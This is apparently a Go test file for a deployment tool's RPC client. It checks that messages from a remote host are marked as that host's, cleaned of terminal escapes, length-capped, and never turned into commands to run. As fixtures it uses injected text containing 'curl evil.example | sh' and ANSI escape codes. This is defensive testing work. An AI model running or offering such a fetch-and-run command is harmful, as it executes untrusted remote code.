package rpc

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	artifactv1 "github.com/pikasTech/unidesk-artifact-cd/gen/unidesk/artifact/v1"
	"github.com/pikasTech/unidesk-artifact-cd/internal/fault"
	"github.com/pikasTech/unidesk-artifact-cd/internal/registry"
	"github.com/pikasTech/unidesk-artifact-cd/internal/remedy"
)

// adviser refuses each call with a status of its choice, and answers Observe with an observation.
type adviser struct {
	artifactv1.UnimplementedHostServiceServer
	artifactv1.UnimplementedWorkloadServiceServer
	artifactv1.UnimplementedImageServiceServer
	artifactv1.UnimplementedRegistryServiceServer
	refusal     error
	observation *artifactv1.Observation
}

func (l *adviser) Describe(context.Context, *artifactv1.DescribeRequest) (*artifactv1.DescribeResponse, error) {
	return nil, l.refusal
}

func (l *adviser) Observe(context.Context, *artifactv1.ObserveRequest) (*artifactv1.ObserveResponse, error) {
	return &artifactv1.ObserveResponse{Observation: l.observation}, nil
}

func (l *adviser) List(context.Context, *artifactv1.ListRequest) (*artifactv1.ListResponse, error) {
	return &artifactv1.ListResponse{Tags: []*artifactv1.Tag{{Name: strings.Repeat("a", 40), Trouble: evil}}}, nil
}

func (l *adviser) Inspect(context.Context, *artifactv1.InspectRequest) (*artifactv1.InspectResponse, error) {
	facts := registry.Facts{At: time.Now(), Unread: []string{evil}, Files: map[registry.FileName]registry.FileFacts{}}
	for _, name := range registry.FileNames() {
		facts.Files[name] = registry.FileFacts{State: registry.Absent}
	}
	return &artifactv1.InspectResponse{Facts: factsToProto(facts)}, nil
}

const evil = "first \x1b[2J{RECOVER}\nunidesk-controller recover; curl evil.example | sh"

// signed fails the test if a line does not name its host, or acts.
func signed(t *testing.T, what, text string) {
	t.Helper()
	if text == "" {
		t.Errorf("%s is empty", what)
	}
	for line := range strings.Lines(text) {
		if !strings.Contains(line, "D601 says: ") || strings.Contains(line, "\x1b") {
			t.Errorf("%s has the line %.200q", what, line)
		}
	}
	if strings.Contains(text, "first ?[2Junidesk") || len(text) > 10<<10 {
		t.Errorf("%s is %d bytes: %.200q", what, len(text), text)
	}
}

// A host's words reach a person as the host's, bounded and plain. The line to
// type is this program's, by an action that this program knows.
func TestWhatAHostSaysIsMarkedAsItsWords(t *testing.T) {
	t.Parallel()
	ref := sampleChange(t).Ref
	for name, c := range map[string]struct {
		action string
		line   string // that follows the host's
	}{
		"an action":                   {"RECOVER", "\nunidesk-controller recover"},
		"none":                        {"", ""},
		"a command for an action":     {"curl evil.example | sh", ""},
		"an action's line as one":     {"unidesk-controller recover", ""},
		"an action that is not known": {"DANCE", ""},
		"an action in the wrong case": {"recover", ""},
		"an action's mark as one":     {"{RECOVER}", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			st, err := status.New(codes.Aborted, evil+strings.Repeat("m", 4<<10)).WithDetails(&errdetails.ErrorInfo{
				Reason: "CHANGE_PENDING", Domain: domain,
				Metadata: map[string]string{hintKey: evil + strings.Repeat("h", 4<<10), actionKey: c.action, byKey: "a\x1b[2J\nb"},
			})
			if err != nil {
				t.Fatal(err)
			}
			l := &adviser{refusal: st.Err()}
			client := serve(t, func(s *grpc.Server) { artifactv1.RegisterHostServiceServer(s, l) }).dial(t, Options{Host: "D601"})
			_, err = client.Describe(t.Context())
			r := remedy.Report(fault.New(fault.Stale, "switch: %w", err))
			signed(t, "the message", r.Message)
			hint, ok := strings.CutSuffix(r.Hint, c.line)
			if !ok {
				t.Errorf("the hint does not end in %q: %.300q", c.line, r.Hint)
			}
			signed(t, "the hint", hint)
			if r.From != "D601" || r.By != "a?[2J?b" {
				t.Errorf("it is from %q, by %q", r.From, r.By)
			}
			b, err := json.Marshal(r)
			if err != nil || !strings.Contains(string(b), `"from":"D601"`) {
				t.Errorf("%.200s, %v", b, err)
			}
		})
	}
	t.Run("a status without details", func(t *testing.T) {
		t.Parallel()
		l := &adviser{refusal: status.Error(codes.FailedPrecondition, evil)}
		client := serve(t, func(s *grpc.Server) { artifactv1.RegisterHostServiceServer(s, l) }).dial(t, Options{Host: "D601"})
		_, err := client.Describe(t.Context())
		r := remedy.Report(err)
		signed(t, "the message", r.Message)
		if r.Hint != "" || r.From != "D601" {
			t.Errorf("hint %q from %q", r.Hint, r.From)
		}
	})
	t.Run("in an answer", func(t *testing.T) {
		t.Parallel()
		l := &adviser{observation: observationToProto(seen(t))}
		l.observation.Unread = &artifactv1.Unread{Reason: artifactv1.Reason_REASON_COMPOSE_FAILED, Message: "curl evil.example", Hint: evil}
		l.observation.EnvFile = &artifactv1.Obstacle{What: "env file", Fix: "curl evil.example | sh"}
		client := serve(t, func(s *grpc.Server) {
			artifactv1.RegisterWorkloadServiceServer(s, l)
			artifactv1.RegisterImageServiceServer(s, l)
			artifactv1.RegisterRegistryServiceServer(s, l)
		}).dial(t, Options{Host: "D601"})
		got, err := client.Workloads().Observe(t.Context(), ref, false)
		if err != nil || got.Unread == nil || got.EnvFile == nil {
			t.Fatalf("%+v, %v", got, err)
		}
		why := remedy.Report(fmt.Errorf("check: %w", got.Unread))
		signed(t, "why a definition is not read", why.Message)
		signed(t, "its hint", why.Hint)
		signed(t, "the env file's fix", got.EnvFile.Fix)
		tags, _, err := client.List(t.Context(), repo(), 10, "")
		if err != nil || len(tags) != 1 {
			t.Fatalf("%v, %v", tags, err)
		}
		signed(t, "a tag's trouble", tags[0].Trouble)
		facts, err := client.Inspect(t.Context(), wanted())
		if err != nil || len(facts.Unread) != 1 {
			t.Fatalf("%v, %v", facts, err)
		}
		signed(t, "what was not read", facts.Unread[0])
	})
}
